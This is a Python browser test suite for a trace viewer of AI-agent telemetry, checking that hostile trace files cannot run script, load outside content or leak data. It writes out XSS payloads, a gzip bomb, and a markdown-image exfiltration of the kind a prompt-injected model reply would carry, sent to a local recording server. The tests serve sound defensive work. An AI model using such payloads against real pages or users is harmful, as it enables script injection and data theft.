"""A trace is untrusted input: whatever a file holds, the page keeps
working, loads nothing from elsewhere on its own, keeps no trace data in
storage, and runs nothing the file wrote."""

import gzip
import http.server
import json
import os
import pathlib
import threading
import zlib

from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from conftest import console_errors, take_csp_violations
from harness import serve
from test_viewer import WAIT_SECONDS, open_demo, open_files, parsed_where, row_named, tiny_png, wait_for, wait_text, write_json

# The next load's worker dies as a crashed one does (out of memory, a stack
# overflow, a panic): it is ended and the page gets its error event. Only
# that load: later ones run as usual.
KILL_THE_NEXT_LOADS_WORKER = """
window.__killNextLoad = true;
const post = Worker.prototype.postMessage;
Worker.prototype.postMessage = function (message, transfer) {
  if (window.__killNextLoad && message && message.inputs !== undefined) {
    window.__killNextLoad = false;
    this.terminate();
    setTimeout(() => this.dispatchEvent(new ErrorEvent('error', {message: 'Uncaught RuntimeError: unreachable'})), 0);
    return;
  }
  return post.call(this, message, transfer);
};
"""


def one_span_trace(path: pathlib.Path, name: str) -> pathlib.Path:
    return write_json(path, {"resourceSpans": [{"scopeSpans": [{"spans": [{
        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": name,
        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
    }]}]}]})


def test_a_worker_that_dies_fails_its_load_and_the_page_goes_on(driver, app_url, tmp_path: pathlib.Path):
    script = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": KILL_THE_NEXT_LOADS_WORKER})
    try:
        open_demo(driver, app_url)
    finally:
        driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": script["identifier"]})
    file_input = driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]")
    file_input.send_keys(str(one_span_trace(tmp_path / "killer.json", "never shown")))
    error = wait_for(driver, "[data-testid=load-error]").text
    assert error == "the file could not be read: Uncaught RuntimeError: unreachable"
    # The page did not read it on its own thread, where it would die as well.
    assert parsed_where(driver) == []
    # It goes on: the next file opens (in a worker), and so does the demo.
    file_input = driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]")
    file_input.send_keys(str(one_span_trace(tmp_path / "next.json", "the next file")))
    wait_text(driver, "[data-testid=trace-name]", "the next file")
    assert parsed_where(driver) == ["in-worker"]
    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
    driver.find_element(By.CSS_SELECTOR, "[data-testid=open-demo]").click()
    wait_text(driver, "[data-testid=trace-name]", "invoke_agent trip_planner")
    assert console_errors(driver) == []


class RecordingServer:
    """A server on 127.0.0.1 that notes every request and answers a PNG:
    what a host an answer points at would learn."""

    def __init__(self):
        requests = self.requests = []
        picture = tiny_png(2, 2)

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the base class's name
                requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(picture)))
                self.end_headers()
                self.wfile.write(picture)

            def log_message(self, format, *args):  # noqa: A002
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def chat_span_trace(path: pathlib.Path, name: str, parts, extra_attributes=()) -> pathlib.Path:
    output = json.dumps([{"role": "assistant", "parts": parts}])
    return write_json(path, {"resourceSpans": [{"scopeSpans": [{"spans": [{
        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": name,
        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
        "attributes": [
            {"key": "gen_ai.operation.name", "value": {"stringValue": "chat"}},
            {"key": "gen_ai.output.messages", "value": {"stringValue": output}},
            *extra_attributes,
        ],
    }]}]}]})


def test_remote_images_load_only_when_clicked(driver, app_url, tmp_path: pathlib.Path):
    host = RecordingServer()
    try:
        parts = [
            {"type": "text", "content": f"Here is your summary. ![chart]({host.url}/exfil.png?d=the+secret+plan)"},
            {"type": "uri", "modality": "image", "mime_type": "image/png", "uri": f"{host.url}/media.png?d=more"},
        ]
        open_files(driver, app_url, chat_span_trace(tmp_path / "exfil.json", "chat injected", parts))
        wait_text(driver, "[data-testid=trace-name]", "chat injected")
        row_named(driver, "chat injected").click()
        messages = wait_for(driver, "[data-testid=messages]")
        placeholders = messages.find_elements(By.CSS_SELECTOR, ".sl-remote-image")
        assert [p.text for p in placeholders] == [
            "Image from 127.0.0.1:%s: chart (click to load)" % host.url.rsplit(":", 1)[1],
            "Image from 127.0.0.1:%s (click to load)" % host.url.rsplit(":", 1)[1],
        ]
        assert messages.find_elements(By.CSS_SELECTOR, "img") == []
        # The Conversation view shows the same answer, with the same placeholders.
        driver.find_element(By.CSS_SELECTOR, "[data-testid=view-conversation]").click()
        conversation = wait_for(driver, "[data-testid=conversation]")
        assert len(conversation.find_elements(By.CSS_SELECTOR, ".sl-remote-image")) == 2
        assert conversation.find_elements(By.CSS_SELECTOR, "img") == []
        driver.execute_script("return new Promise(resolve => setTimeout(resolve, 0))")
        assert host.requests == [], "nothing was asked of the host before a click"
        # A click asks for that image only; the page's policy allows https
        # images, so this http one is refused and reported as such.
        conversation.find_element(By.CSS_SELECTOR, "button.sl-remote-image").click()
        image = conversation.find_element(By.CSS_SELECTOR, "img")
        assert image.get_attribute("src") == f"{host.url}/exfil.png?d=the+secret+plan"
        WebDriverWait(driver, WAIT_SECONDS).until(lambda d: take_csp_violations(d))
    finally:
        host.close()


def test_recent_files_keep_no_data_in_storage(driver, app_url, tmp_path: pathlib.Path):
    driver.get(app_url)
    driver.execute_script("sessionStorage.clear()")
    secret_span = "span name only in the file"
    open_files(driver, app_url, one_span_trace(tmp_path / "private.json", secret_span))
    wait_text(driver, "[data-testid=trace-name]", secret_span)
    (tmp_path / "served").mkdir()
    one_span_trace(tmp_path / "served" / "signed.json", "served span")
    url, server = serve(tmp_path / "served", cors=True)
    try:
        # Fetched from the start screen, in the same page.
        driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
        address = driver.find_element(By.CSS_SELECTOR, "#sl-url")
        address.send_keys(f"{url}signed.json?X-Signature=s3cr3t-token")
        address.submit()
        wait_text(driver, "[data-testid=trace-name]", "served span")
    finally:
        server.shutdown()
    stored = driver.execute_script("return sessionStorage.getItem('spanloupe.recent')")
    assert secret_span not in stored and "served span" not in stored and "traceId" not in stored, stored
    assert "s3cr3t" not in stored and f"{url}signed.json" in stored, stored
    # The data stays in the page's memory: it opens again while the page lives.
    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
    names = [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".sl-recent__name")]
    assert names == [f"{url}signed.json", "private.json"], names
    driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item")[1].find_element(By.CSS_SELECTOR, "button").click()
    wait_text(driver, "[data-testid=trace-name]", secret_span)
    # After a reload the list is there, without its data.
    driver.get(app_url)
    wait_for(driver, "[data-testid=trace-name]")
    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
    assert len(driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item")) == 2
    assert driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item button") == []
    driver.find_element(By.CSS_SELECTOR, "[data-testid=forget-recent]").click()
    assert driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item") == []
    assert driver.execute_script("return sessionStorage.getItem('spanloupe.recent')") is None


def test_a_list_stored_with_file_contents_by_an_older_version_loses_them(driver, app_url):
    driver.get(app_url)
    old = [{"name": "old.json", "bytes": 10, "format": "OTLP JSON", "spans": 1, "traces": 1, "content": "{\"private\": 1}"}]
    driver.execute_script("sessionStorage.setItem('spanloupe.recent', arguments[0])", json.dumps(old))
    driver.get(app_url)
    wait_for(driver, "[data-testid=trace-name]")
    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
    wait_text(driver, ".sl-recent__name", "old.json")
    stored = driver.execute_script("return sessionStorage.getItem('spanloupe.recent')")
    assert "private" not in stored and "old.json" in stored, stored


def test_a_file_over_the_limit_is_refused_with_its_size(driver, app_url, tmp_path: pathlib.Path):
    # Sparse: 2.1 GB on paper, nothing on disk. Refused before it is read.
    path = tmp_path / "huge.json"
    with open(path, "wb") as file:
        file.truncate(2_100_000_000)
    open_demo(driver, app_url)
    driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]").send_keys(str(path))
    error = wait_for(driver, "[data-testid=load-error]").text
    assert error.startswith("this file is 2.1 GB; the limit in this browser is 1.5 GB"), error
    assert parsed_where(driver) == []


def test_a_gzip_bomb_stops_at_the_limit(driver, app_url, tmp_path: pathlib.Path):
    # 1.6 GB of zeros in 1.6 MB of gzip: the worker stops inflating at the
    # limit and says so, instead of running out of memory.
    path = tmp_path / "bomb.json.gz"
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(64 << 20)
    with open(path, "wb") as file:
        for _ in range(24):
            file.write(compressor.compress(zeros))
        file.write(compressor.flush())
    assert path.stat().st_size < 3_000_000
    open_demo(driver, app_url)
    driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]").send_keys(str(path))
    error = WebDriverWait(driver, 120).until(lambda d: d.find_elements(By.CSS_SELECTOR, "[data-testid=load-error]"))[0].text
    assert "decompressed, this file is over 1.5 GB; the limit in this browser is 1.5 GB" in error, error
    # The page goes on.
    driver.find_element(By.CSS_SELECTOR, "[data-testid=open-demo]").click()
    wait_text(driver, "[data-testid=trace-name]", "invoke_agent trip_planner")


def test_a_key_of_100000_levels_opens_from_a_deep_link(driver, app_url, tmp_path: pathlib.Path):
    # OpenLLMetry's indexed keys are rebuilt into a tree when the span is
    # shown; a key of 100,000 dots was as many levels of recursion.
    deep = "gen_ai.prompt.0.content" + ".a" * 100_000
    path = write_json(tmp_path / "deep.json", {"resourceSpans": [{"scopeSpans": [{"spans": [{
        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "chat deep",
        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
        "attributes": [
            {"key": "gen_ai.system", "value": {"stringValue": "openai"}},
            {"key": "gen_ai.prompt.0.role", "value": {"stringValue": "user"}},
            {"key": deep, "value": {"stringValue": "deep value"}},
        ],
    }]}]}]})
    served = tmp_path / "deep"
    served.mkdir()
    path.rename(served / "deep.json")
    url, server = serve(served, cors=True)
    try:
        driver.get(f"{app_url}?url={url}deep.json#trace=0af7651916cd43dd8448eb211c80319c&span=b7ad6b7169203331")
        wait_text(driver, "[data-testid=trace-name]", "chat deep")
        warning = wait_for(driver, "[data-testid=call-warning]").text
        assert warning == "1 attribute key nests deeper than 32 levels: past that, the rest of the key is read as one name"
        assert console_errors(driver) == []
    finally:
        server.shutdown()


def many_traces(path: pathlib.Path, traces: int) -> pathlib.Path:
    """`traces` traces of a root and a child each, started a second apart."""
    spans = []
    for t in range(traces):
        trace_id = f"{t + 1:032x}"
        start = 1_700_000_000_000_000_000 + t * 1_000_000_000
        spans.append({"traceId": trace_id, "spanId": f"{2 * t + 1:016x}", "name": f"GET /orders/{t}",
                      "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + 5_000_000 + t)})
        spans.append({"traceId": trace_id, "spanId": f"{2 * t + 2:016x}", "parentSpanId": f"{2 * t + 1:016x}",
                      "name": "SELECT orders", "startTimeUnixNano": str(start + 1000), "endTimeUnixNano": str(start + 2000)})
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": "orders"}}]}
    return write_json(path, {"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": spans}]}]})


def test_a_file_of_many_traces_draws_only_the_rows_on_screen(driver, app_url, tmp_path: pathlib.Path):
    open_files(driver, app_url, many_traces(tmp_path / "many.json", 20_000))
    wait_text(driver, "[data-testid=trace-list-summary]", "20,000 traces · 40,000 spans")
    names = lambda: [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")]  # noqa: E731
    drawn = names()
    assert drawn[0] == "GET /orders/0" and 20 <= len(drawn) <= 60, drawn
    assert len(driver.find_elements(By.CSS_SELECTOR, "tr")) < 100
    # Scrolled to the end: the last traces, in the same few elements.
    box = driver.find_element(By.CSS_SELECTOR, "[data-testid=trace-list-rows]")
    driver.execute_script("arguments[0].scrollTop = arguments[0].scrollHeight", box)
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: names() and names()[-1] == "GET /orders/19999")
    assert len(names()) <= 60
    # The last row is inside the box, not cut off below it.
    last = driver.find_elements(By.CSS_SELECTOR, "[data-testid=trace-row]")[-1]
    assert driver.execute_script(
        "const a = arguments[0].getBoundingClientRect(), b = arguments[1].getBoundingClientRect();"
        "return a.bottom <= b.bottom + 1 && a.top >= b.top", last, box)
    # Sorting and filtering still see every trace.
    driver.find_element(By.XPATH, "//th//button[starts-with(normalize-space(), 'Duration')]").click()
    driver.execute_script("arguments[0].scrollTop = 0", box)
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: names() and names()[0] == "GET /orders/19999")
    search = driver.find_element(By.CSS_SELECTOR, "[aria-label='Filter traces']")
    search.send_keys("orders/1234")
    expected = sorted(["GET /orders/1234"] + [f"GET /orders/1234{d}" for d in range(10)])
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: sorted(names()) == expected)
    driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")[0].click()
    wait_for(driver, "[data-testid=waterfall]")
    assert console_errors(driver) == []


def xss_payloads(attacker: str):
    """What a hostile trace writes into every string it has: markup that
    runs script, addresses that load or run, style breakers, direction
    overrides and a 100 KB line without a space."""
    return [
        "<script>window.__xss = 1</script>",
        '<img src=x onerror="window.__xss = 2">',
        '<svg onload="window.__xss = 3"></svg>',
        '"><img src=x onerror=window.__xss=4>',
        "javascript:window.__xss = 5",
        "data:text/html,<script>window.__xss = 6</script>",
        "</style><style>* { display: none !important }</style>",
        "<iframe src=\"javascript:window.__xss = 7\"></iframe>",
        f'<link rel="stylesheet" href="{attacker}/style.css">',
        "\u202eevil\u202c \u200f\u2066rtl\u2069",
        "{{constructor.constructor('window.__xss = 8')()}}",
        "x" * 100_000,
    ]


def xss_trace(path: pathlib.Path, attacker: str) -> pathlib.Path:
    payloads = xss_payloads(attacker)
    markdown = "\n\n".join([
        *payloads[:9],
        f"[click](javascript:window.__xss=9) [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTA8L3NjcmlwdD4=)",
        f"![<img src=x onerror=window.__xss=11>]({attacker}/exfil.png?d=secret)",
        f"![alt](javascript:window.__xss=12) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xMyI+PC9zdmc+)",
        "> " * 200 + "deep",
    ])
    def attributes(prefix):
        return [{"key": f"{prefix}.{i}.{p[:200]}", "value": {"stringValue": p}} for i, p in enumerate(payloads)] + [
            {"key": f"{prefix}.list", "value": {"arrayValue": {"values": [{"stringValue": p} for p in payloads]}}},
            {"key": f"{prefix}.map", "value": {"kvlistValue": {"values": [{"key": p[:100], "value": {"stringValue": p}} for p in payloads]}}},
        ]
    tool_arguments = json.dumps({p[:50]: p for p in payloads})
    messages_in = [{"role": "user", "parts": [
        {"type": "text", "content": markdown},
        {"type": "uri", "modality": "image", "mime_type": "text/html", "uri": "javascript:window.__xss=14"},
        {"type": "uri", "modality": "image", "mime_type": "image/png", "uri": f"{attacker}/media.png"},
        {"type": "blob", "modality": "image", "mime_type": "text/html", "content": "PHNjcmlwdD53aW5kb3cuX194c3M9MTU8L3NjcmlwdD4="},
    ]}]
    messages_out = [{"role": "assistant", "parts": [
        {"type": "text", "content": markdown},
        {"type": "tool_call", "id": payloads[1], "name": payloads[0], "arguments": tool_arguments},
    ], "finish_reason": payloads[2]}]
    trace_a, trace_b = "0af7651916cd43dd8448eb211c80319c", "1af7651916cd43dd8448eb211c80319c"
    spans = []
    for t, trace_id in enumerate([trace_a, trace_b]):
        root = f"{t + 1:016x}"
        spans.append({"traceId": trace_id, "spanId": root, "name": payloads[t],
                      "startTimeUnixNano": "1000", "endTimeUnixNano": "90000",
                      "status": {"code": 2, "message": payloads[1]},
                      "attributes": attributes("span"),
                      "events": [{"name": p[:300], "timeUnixNano": "2000", "attributes": [
                          {"key": "exception.message", "value": {"stringValue": p}},
                          {"key": "exception.stacktrace", "value": {"stringValue": p}}]} for p in payloads],
                      "links": [{"traceId": trace_b, "spanId": f"{2:016x}", "attributes": attributes("link")[:3]}]})
        for i, p in enumerate(payloads[:6]):
            spans.append({"traceId": trace_id, "spanId": f"{(t + 1) * 100 + i:016x}", "parentSpanId": root, "name": p,
                          "startTimeUnixNano": str(3000 + i), "endTimeUnixNano": str(8000 + i),
                          "attributes": [{"key": "gen_ai.operation.name", "value": {"stringValue": "chat"}},
                                         {"key": "gen_ai.request.model", "value": {"stringValue": p}},
                                         {"key": "gen_ai.input.messages", "value": {"stringValue": json.dumps(messages_in)}},
                                         {"key": "gen_ai.output.messages", "value": {"stringValue": json.dumps(messages_out)}}]})
        spans.append({"traceId": trace_id, "spanId": f"{(t + 1) * 100 + 50:016x}", "parentSpanId": root,
                      "name": "execute_tool " + payloads[0], "startTimeUnixNano": "9000", "endTimeUnixNano": "9500",
                      "attributes": [{"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
                                     {"key": "gen_ai.tool.name", "value": {"stringValue": payloads[0]}},
                                     {"key": "gen_ai.tool.call.id", "value": {"stringValue": payloads[1]}},
                                     {"key": "gen_ai.tool.call.arguments", "value": {"stringValue": tool_arguments}},
                                     {"key": "gen_ai.tool.call.result", "value": {"stringValue": markdown}}]})
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": payloads[3]}}] + attributes("resource")}
    return write_json(path, {"resourceSpans": [{"resource": resource, "scopeSpans": [
        {"scope": {"name": payloads[0], "version": payloads[1], "attributes": attributes("scope")}, "spans": spans}]}]})


LAYOUT_OVERFLOW = """
const width = window.innerWidth;
const clips = (e) => ['auto', 'scroll', 'hidden', 'clip'].includes(getComputedStyle(e).overflowX);
const wide = [];
for (const element of document.querySelectorAll('body *')) {
  const box = element.getBoundingClientRect();
  if (box.width <= width + 1 && box.right <= width + 1) continue;
  let ancestor = element.parentElement, clipped = false;
  while (ancestor && ancestor !== document.body) {
    if (clips(ancestor) && ancestor.getBoundingClientRect().right <= width + 1) { clipped = true; break; }
    ancestor = ancestor.parentElement;
  }
  if (!clipped) wide.push(element.tagName + '.' + element.className + ' ' + Math.round(box.width));
}
return {wide: wide.slice(0, 10), page: document.documentElement.scrollWidth, width};
"""


def assert_unharmed(driver, attacker: RecordingServer, app_url: str, where: str):
    assert driver.execute_script("return window.__xss === undefined"), f"a payload ran ({where})"
    sources = driver.execute_script("return [...document.querySelectorAll('img, iframe, object, embed, script[src]')].map(e => e.tagName + ' ' + (e.src || e.data || ''))")
    unexpected = [s for s in sources if not (s.startswith("IMG blob:") or s.startswith("IMG data:image/"))]
    assert unexpected == [], f"{where}: {unexpected}"
    layout = driver.execute_script(LAYOUT_OVERFLOW)
    assert layout["page"] <= layout["width"] and layout["wide"] == [], f"{where}: {layout}"
    assert attacker.requests == [], f"{where}: {attacker.requests}"
    origin = app_url.rstrip("/")
    loaded = driver.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
    outside = [name for name in loaded if not (name.startswith(origin) or name.startswith(("blob:", "data:")))]
    assert outside == [], f"{where}: requests left the app's origin: {outside}"


def test_the_xss_battery_runs_nothing_loads_nothing_and_keeps_the_layout(driver, app_url, tmp_path: pathlib.Path, artifacts):
    attacker = RecordingServer()
    try:
        path = xss_trace(tmp_path / "xss-battery.json", attacker.url)
        open_files(driver, app_url, path)
        wait_text(driver, "[data-testid=trace-list-summary]", "2 traces")
        assert_unharmed(driver, attacker, app_url, "the trace list")
        driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")[0].click()
        wait_for(driver, "[data-testid=waterfall]")
        assert_unharmed(driver, attacker, app_url, "the waterfall")
        rows = driver.find_elements(By.CSS_SELECTOR, "[data-testid=waterfall] [role=row]")
        assert len(rows) == 8
        for index in range(len(rows)):
            row = driver.find_elements(By.CSS_SELECTOR, "[data-testid=waterfall] [role=row]")[index]
            row.click()
            wait_for(driver, "[data-testid=inspector]")
            for tab in ["tab-messages", "tab-attributes", "tab-events", "tab-raw"]:
                buttons = driver.find_elements(By.CSS_SELECTOR, f"[data-testid={tab}]")
                if buttons:
                    buttons[0].click()
                    assert_unharmed(driver, attacker, app_url, f"row {index}, {tab}")
                    if index == 1 and tab == "tab-messages":
                        driver.save_screenshot(str(artifacts / "xss-battery-messages.png"))
        search = driver.find_element(By.CSS_SELECTOR, "[data-testid=search]")
        search.send_keys("<script>")
        assert_unharmed(driver, attacker, app_url, "a search")
        driver.find_element(By.CSS_SELECTOR, "[data-testid=view-conversation]").click()
        wait_for(driver, "[data-testid=conversation]")
        assert_unharmed(driver, attacker, app_url, "the Conversation view")
        driver.save_screenshot(str(artifacts / "xss-battery-conversation.png"))
        # Nothing ran that opened a dialog: the page still answers scripts.
        assert driver.execute_script("return 1") == 1
        assert console_errors(driver) == []
    finally:
        attacker.close()


def wide_span(path: pathlib.Path, attributes: int, values: int) -> pathlib.Path:
    """One span with `attributes` attributes, one of them an array of `values` values."""
    listed = ",".join(f'{{"key":"k{i}","value":{{"stringValue":"v{i}"}}}}' for i in range(attributes))
    array = ",".join(f'{{"intValue":"{i}"}}' for i in range(values))
    span = ('{"traceId":"0af7651916cd43dd8448eb211c80319c","spanId":"b7ad6b7169203331","name":"wide",'
            '"startTimeUnixNano":"1000","endTimeUnixNano":"2000","attributes":['
            f'{{"key":"array","value":{{"arrayValue":{{"values":[{array}]}}}}}},{listed}]}}')
    path.write_text('{"resourceSpans":[{"scopeSpans":[{"spans":[' + span + "]}]}]}")
    return path


def test_a_span_of_a_million_attributes_shows_them_a_page_at_a_time(driver, app_url, tmp_path: pathlib.Path):
    open_files(driver, app_url, wide_span(tmp_path / "wide.json", 1_000_000, 1_000_000))
    WebDriverWait(driver, 120).until(lambda d: d.find_elements(By.CSS_SELECTOR, "[data-testid=trace-name]")
                                     and d.find_element(By.CSS_SELECTOR, "[data-testid=trace-name]").text == "wide")
    driver.execute_script("""
        window.__longest = 0;
        new PerformanceObserver(list => list.getEntries().forEach(e => window.__longest = Math.max(window.__longest, e.duration)))
            .observe({type: 'longtask'});
    """)
    row_named(driver, "wide").click()
    table = wait_for(driver, "[data-testid=attributes]")
    count = lambda: len(table.find_elements(By.CSS_SELECTOR, ":scope > tbody > tr"))  # noqa: E731
    assert count() == 200
    # The array is the first attribute: its first 200 values, and a button for more.
    first = table.find_element(By.CSS_SELECTOR, ":scope > tbody > tr")
    assert len(first.find_elements(By.CSS_SELECTOR, "ol > li")) == 200
    assert first.find_element(By.CSS_SELECTOR, "[data-testid=show-more]").text == "Show 200 more (of 1,000,000)"
    first.find_element(By.CSS_SELECTOR, "[data-testid=show-more]").click()
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: len(first.find_elements(By.CSS_SELECTOR, "ol > li")) == 400)
    more = driver.find_elements(By.CSS_SELECTOR, "[data-testid=show-more]")[-1]
    assert more.text == "Show 200 more (of 1,000,001)"
    more.click()
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: count() == 400)
    # The filter looks through all of them.
    driver.find_element(By.CSS_SELECTOR, "[aria-label='Filter attribute keys']").send_keys("k999999")
    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: count() == 1)
    assert table.find_element(By.CSS_SELECTOR, "th").text == "k999999"
    # The raw JSON is cut as well, and says how much.
    driver.find_element(By.CSS_SELECTOR, "[data-testid=tab-raw]").click()
    raw = wait_for(driver, "[data-testid=raw-json]").text
    assert "999,801 attributes left out: Copy JSON for all" in raw
    assert "999,800 values left out: Copy JSON for all" in raw
    print("longest task after the load:", driver.execute_script("return window.__longest"), "ms")
    assert console_errors(driver) == []


def test_a_url_that_says_it_is_over_the_limit_is_refused_before_its_body(driver, app_url):
    requests = []

    class Huge(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the base class's name
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", "2100000000")
            self.end_headers()
            # A little of it, then the connection closes: the page must not wait for the rest.
            self.wfile.write(b'{"resourceSpans": [')

        def log_message(self, format, *args):  # noqa: A002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Huge)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/huge.json"
    try:
        driver.get(f"{app_url}?url={url}")
        error = wait_for(driver, "[data-testid=load-error]").text
        assert error.startswith(f"{url}: this file is 2.1 GB; the limit in this browser is 1.5 GB"), error
        assert requests == ["/huge.json"]
    finally:
        server.shutdown()


def test_the_page_policy_refuses_inline_scripts_styles_and_plugins(driver, app_url):
    open_demo(driver, app_url)
    policy = driver.execute_script(
        "return document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content ?? ''")
    assert "'unsafe-inline'" not in policy and "object-src 'none'" in policy, policy
    assert driver.execute_script("return document.querySelector('meta[name=referrer]')?.content") == "no-referrer"
    # What an injection would add to the page, were it ever to reach it.
    ran = driver.execute_script("""
        const script = document.createElement('script');
        script.textContent = 'window.__inline = 1';
        document.body.appendChild(script);
        const styled = document.createElement('p');
        styled.setAttribute('style', 'color: rgb(1, 2, 3)');
        document.body.appendChild(styled);
        const color = getComputedStyle(styled).color;
        script.remove(); styled.remove();
        return [window.__inline === 1, color === 'rgb(1, 2, 3)'];
    """)
    assert ran == [False, False]
    violations = WebDriverWait(driver, WAIT_SECONDS).until(lambda d: take_csp_violations(d) or None)
    assert any("inline script" in v for v in violations), violations
    # The app itself runs and styles under the policy: its trace is drawn.
    assert driver.find_element(By.CSS_SELECTOR, "[data-testid=trace-name]").text == "invoke_agent trip_planner"
